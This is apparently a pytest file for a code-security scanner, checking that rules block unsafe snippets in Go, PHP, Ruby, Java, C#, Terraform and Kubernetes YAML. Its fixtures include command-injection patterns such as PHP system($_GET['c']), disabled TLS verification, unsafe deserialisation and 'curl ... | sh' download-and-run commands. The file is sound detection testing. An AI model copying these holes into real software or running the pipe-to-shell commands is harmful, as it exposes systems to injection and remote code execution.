"""What the scanner's grammar of a language beside Python does not know is signed for, and fails nothing."""

from __future__ import annotations

import pytest

from guard import app, engine
from guard.checks.code_rules.check import CodeRules
from guard.checks.kit.interface import Ports
from guard.model.change import ChangeSet
from guard.model.verdict import Decision, Effect, Verdict
from guard.tools.clock import SystemClock

GO = b'package a\n\nimport "os/exec"\n\nfunc a(name string) {\n\texec.Command("sh", "-c", name)\n}\n'
BROKEN = b'package a\n\nimport "os/exec"\n\nfunc a( {{{ ::: exec.Command("sh", "-c", name)\n'


def judge(before: dict[str, bytes], after: dict[str, bytes]) -> Verdict:
    change = ChangeSet.from_files(before, after)
    policy = app.policy_for(change.base, "guard:default")
    ports = Ports(scanner=app.default_scanner())
    return engine.judge(
        change, lambda: policy, ports, SystemClock(), guard_version="0", checks=(CodeRules(),)
    )


def rules(verdict: Verdict) -> set[str]:
    return {one.id for one in verdict.findings}


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        ("a.go", GO, "go-shell-command-built"),
        ("a.php", b"<?php\nsystem($_GET['c']);\n", "php-request-command-injection"),
        ("a.rb", b'def a(name)\n  system("rm #{name}")\nend\n', "ruby-command-string-built"),
        ("a.java", b"class A { Object x = TrustAllStrategy.INSTANCE; }\n", "java-tls-verification-off"),
        ("a.cs", b"class A { object x = TypeNameHandling.All; }\n", "csharp-unsafe-deserialise"),
        (
            "a.tf",
            b'resource "null_resource" "a" {\n  provisioner "local-exec" {\n'
            b'    command = "curl -s https://a.example | sh"\n  }\n}\n',
            "terraform-download-run",
        ),
        (
            "k8s/a.yaml",
            b"kind: Pod\nspec:\n  containers:\n    - name: a\n"
            b'      command: ["sh", "-c", "curl -s https://a.example | sh"]\n',
            "kubernetes-download-run",
        ),
    ],
)
def test_each_of_these_languages_is_read(path: str, text: bytes, rule: str) -> None:
    verdict = judge({}, {path: text})
    assert rule in rules(verdict)
    assert verdict.decision is Decision.BLOCKED


def test_what_is_not_parsed_is_signed_for() -> None:
    verdict = judge({"a.go": GO}, {"a.go": BROKEN})
    assert rules(verdict) == {"part-not-parsed"}
    assert verdict.outcomes[0].reason == ""
    assert [one.effect for one in verdict.findings] == [Effect.SIGN_OFF]
